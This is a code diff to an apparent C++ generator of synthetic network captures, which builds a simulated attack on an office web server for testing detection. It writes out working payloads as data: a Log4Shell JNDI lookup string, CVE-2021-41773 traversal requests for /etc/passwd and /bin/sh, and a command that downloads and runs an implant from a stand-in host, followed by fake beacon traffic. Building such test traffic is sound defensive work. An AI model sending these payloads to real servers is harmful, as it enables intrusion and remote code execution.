@@ -22,6 +22,7 @@ const char* const kBrowserAgent =
     "Safari/537.36";
 const char* const kScriptAgent = "curl/7.81.0";
 const char* const kBeaconAgent = "Mozilla/4.0 (compatible; MSIE 6.0; mamori-demo-beacon)";
+const char* const kNmapAgent = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
 // Port-forwarded to 192.168.10.80 at the gateway; the tap sees the translated address.
 const char* const kPublicWebName = "portal.office.example";
 
@@ -133,6 +134,7 @@ void OfficeScenario::generate() {
   backgroundTraffic();
 
   portScan(start_ + 61 * kSecond);
+  serviceProbes(start_ + 80 * kSecond);
   exploitAttempts(start_ + 95 * kSecond);
   c2Beacons(start_ + 150 * kSecond);
 }
@@ -261,6 +263,34 @@ void OfficeScenario::portScan(Micros at) {
   synScan(capture_, rng_, attacker_, webServer_, at, scan);
 }
 
+void OfficeScenario::serviceProbes(Micros at) {
+  // nmap -sC on the open web port: the http-title and http-robots.txt scripts, one
+  // connection each, with the Nmap Scripting Engine's own User-Agent.
+  const std::vector<std::pair<std::string, int>> probes = {{"/", 200}, {"/robots.txt", 404}};
+  Micros next = at;
+  for (const auto& [path, status] : probes) {
+    TcpConversation connection(capture_, rng_, attacker_, webServer_, 80, next);
+    connection.open();
+    connection.send(Side::kClient, httpRequest("GET", path,
+                                               {{"Connection", "close"},
+                                                {"User-Agent", kNmapAgent},
+                                                {"Host", kPublicWebName}}));
+    connection.idle(rng_.between(1, 3) * kMillisecond);
+    const std::string body =
+        status == 200 ? htmlPage(rng_, "Office intranet", 2)
+                      : "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n"
+                        "</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n"
+                        "</body></html>\n";
+    connection.send(Side::kServer, httpResponse(status, status == 200 ? "OK" : "Not Found", connection.now(),
+                                                {{"Server", "Apache/2.4.49 (Unix)"},
+                                                 {"Content-Type", "text/html; charset=iso-8859-1"},
+                                                 {"Connection", "close"}},
+                                                body));
+    connection.close(Side::kServer);
+    next = connection.now() + rng_.between(200, 900) * kMillisecond;
+  }
+}
+
 void OfficeScenario::exploitAttempts(Micros at) {
   struct Attempt {
     Micros offset;
@@ -268,12 +298,14 @@ void OfficeScenario::exploitAttempts(Micros at) {
     size_t splitAt;  // npos: the whole request in one segment
     int status;
     const char* reason;
+    const char* contentType;
     std::string body;
   };
   auto apacheError = [](const std::string& title, const std::string& heading, const std::string& text) {
     return "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>" + title +
            "</title>\n</head><body>\n<h1>" + heading + "</h1>\n<p>" + text + "</p>\n</body></html>\n";
   };
+  const char* const html = "text/html; charset=iso-8859-1";
   const HttpHeaders script = {{"Host", kPublicWebName}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}};
   HttpHeaders rceHeaders = script;
   rceHeaders.emplace_back("Content-Type", "application/x-www-form-urlencoded");
@@ -282,21 +314,25 @@ void OfficeScenario::exploitAttempts(Micros at) {
   HttpHeaders log4shellHeader = script;
   log4shellHeader.emplace_back("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/b}");
   const std::string splitRequest = httpRequest("GET", "/api/status", log4shellHeader);
-  const std::string forbidden =
-      apacheError("403 Forbidden", "Forbidden", "You don't have permission to access this resource.");
+  const std::string shell = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh";
 
   const std::vector<Attempt> attempts = {
-      // CVE-2021-41773: the traversal reads a file, then runs a shell through mod_cgi.
-      {0, httpRequest("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", script), std::string::npos, 403,
-       "Forbidden", forbidden},
-      {2500 * kMillisecond, httpRequest("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", rceHeaders, "echo;id"),
-       std::string::npos, 403, "Forbidden", forbidden},
-      // CVE-2021-44228 probes; the second cuts the lookup string across two segments, so
-      // that only a reassembling engine sees it.
-      {15 * kSecond, httpRequest("GET", "/", log4shellAgent), std::string::npos, 200, "OK",
+      // CVE-2021-44228 probes, which an Apache server shrugs off; the second cuts the lookup
+      // string across two segments, so that only a reassembling engine sees it.
+      {0, httpRequest("GET", "/", log4shellAgent), std::string::npos, 200, "OK", html,
        htmlPage(rng_, "Office intranet", 3)},
-      {17 * kSecond, splitRequest, splitRequest.find("${jndi") + 4, 404, "Not Found",
+      {2 * kSecond, splitRequest, splitRequest.find("${jndi") + 4, 404, "Not Found", html,
        apacheError("404 Not Found", "Not Found", "The requested URL was not found on this server.")},
+      // CVE-2021-41773: the traversal to a file is refused, but mod_cgi runs the shell it
+      // reaches: the attacker checks who it runs as, then fetches and starts an implant.
+      {15 * kSecond, httpRequest("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", script), std::string::npos, 403,
+       "Forbidden", html,
+       apacheError("403 Forbidden", "Forbidden", "You don't have permission to access this resource.")},
+      {17500 * kMillisecond, httpRequest("POST", shell, rceHeaders, "echo;id"), std::string::npos, 200, "OK",
+       "text/plain", "uid=1(daemon) gid=1(daemon) groups=1(daemon)\n"},
+      {20 * kSecond,
+       httpRequest("POST", shell, rceHeaders, "echo;curl -s -o /tmp/.u http://198.51.100.77/u;chmod +x /tmp/.u;/tmp/.u"),
+       std::string::npos, 200, "OK", "text/plain", ""},
   };
 
   for (const Attempt& attempt : attempts) {
@@ -307,17 +343,35 @@ void OfficeScenario::exploitAttempts(Micros at) {
     } else {
       connection.sendSplit(Side::kClient, attempt.request, attempt.splitAt);
     }
+    // The dropper's download runs before the CGI script answers.
+    if (&attempt == &attempts.back()) implantDownload(connection.now() + rng_.between(2, 6) * kMillisecond);
     connection.idle(rng_.between(1, 3) * kMillisecond);
     connection.send(Side::kServer, httpResponse(attempt.status, attempt.reason, connection.now(),
                                                 {{"Server", "Apache/2.4.49 (Unix)"},
-                                                 {"Content-Type", "text/html; charset=iso-8859-1"}},
+                                                 {"Content-Type", attempt.contentType}},
                                                 attempt.body));
     connection.close(Side::kClient);
   }
 }
 
+void OfficeScenario::implantDownload(Micros at) {
+  // A stripped ELF executable; only its magic and header are meaningful.
+  std::string implant = std::string("\x7f" "ELF\x02\x01\x01", 7);
+  implant.resize(64, '\0');
+  while (implant.size() < 14'336) implant.push_back(static_cast<char>(rng_.next()));
+  TcpConversation connection(capture_, rng_, webServer_, c2Server_, 80, at);
+  connection.open();
+  connection.send(Side::kClient,
+                  httpRequest("GET", "/u", {{"Host", "198.51.100.77"}, {"User-Agent", kScriptAgent}, {"Accept", "*/*"}}));
+  connection.idle(rng_.between(2, 10) * kMillisecond);
+  connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
+                                              {{"Server", "nginx"}, {"Content-Type", "application/octet-stream"}},
+                                              implant));
+  connection.close(Side::kClient);
+}
+
 void OfficeScenario::c2Beacons(Micros at) {
-  Host& bot = workstations_[23 - kFirstWorkstation];
+  Host& bot = webServer_;
   const std::string domain = "update.bad-c2.example";
   // The implant resolves IPv4 only, and the long TTL keeps the answer cached for the
   // whole capture: one lookup before the first beacon.
@@ -335,7 +389,7 @@ void OfficeScenario::c2Beacons(Micros at) {
                                                 {"Content-Type", "application/x-www-form-urlencoded"},
                                                 {"Cache-Control", "no-cache"},
                                                 {"Connection", "close"}},
-                                               "id=WS23-5F1C9A&seq=" + std::to_string(beacon) + "&st=idle"));
+                                               "id=WEB80-5F1C9A&seq=" + std::to_string(beacon) + "&st=idle"));
     connection.idle(rng_.between(2, 10) * kMillisecond);
     connection.send(Side::kServer, httpResponse(200, "OK", connection.now(),
                                                 {{"Server", "nginx"},
